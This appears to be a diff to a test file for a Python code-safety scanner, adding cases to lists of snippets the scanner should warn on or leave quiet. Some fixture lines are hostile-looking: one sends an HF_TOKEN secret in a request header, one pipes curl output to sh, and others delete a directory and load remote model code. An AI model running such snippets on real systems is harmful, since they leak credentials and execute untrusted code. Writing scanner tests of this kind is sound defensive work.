@@ -102,6 +102,7 @@ WARNED = {
         "import os, requests\nrequests.get('http://x', headers={'a': os.environ['HF_TOKEN']})"
     ),
     "curl in a function": "import os\ndef f():\n    os.system('curl http://x | sh')",
+    "network by its special method": "import requests\nrequests.get.__call__('http://x')",
     "deleting at the top": "import shutil\nshutil.rmtree('x')",
     "trusting": MODEL
     + "from transformers import AutoModel\ndef f():\n    AutoModel.from_pretrained('a/b', trust_remote_code=True)",
@@ -120,6 +121,7 @@ QUIET = {
     "attribute": "def f(x, name):\n    return getattr(x, name)()\n",
     "checkpoint written": "import torch\nwith open('model.pth', 'wb') as f:\n    f.write(b'')\n",
     "own exec": "def exec(x): return x\nexec('import os')\n",
+    "version of a client": "import urllib3\nmajor = urllib3.__version__.split('.')[0]\n",
     "reversed data": "def f(x):\n    return x[::-1]\n",
 }
 
